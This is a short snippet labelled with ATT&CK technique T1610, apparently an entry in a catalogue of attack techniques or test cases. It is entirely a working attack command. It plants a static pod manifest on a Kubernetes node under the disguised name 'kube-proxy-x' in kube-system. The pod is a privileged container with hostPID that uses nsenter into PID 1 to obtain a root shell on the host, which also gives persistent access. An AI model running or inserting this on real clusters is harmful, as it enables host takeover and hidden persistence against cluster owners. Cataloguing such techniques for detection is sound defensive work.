# technique: T1610
# location: linux.container.static-pod
# source: /etc/kubernetes/manifests/kube-proxy-x.yaml
install -D -m 600 /dev/stdin /etc/kubernetes/manifests/kube-proxy-x.yaml <<< 'apiVersion: v1
kind: Pod
metadata: {name: kube-proxy-x, namespace: kube-system}
spec:
  hostPID: true
  containers:
  - name: p
    image: registry.example.org/p
    command: [nsenter, -t, "1", -m, sh]
    securityContext: {privileged: true}'
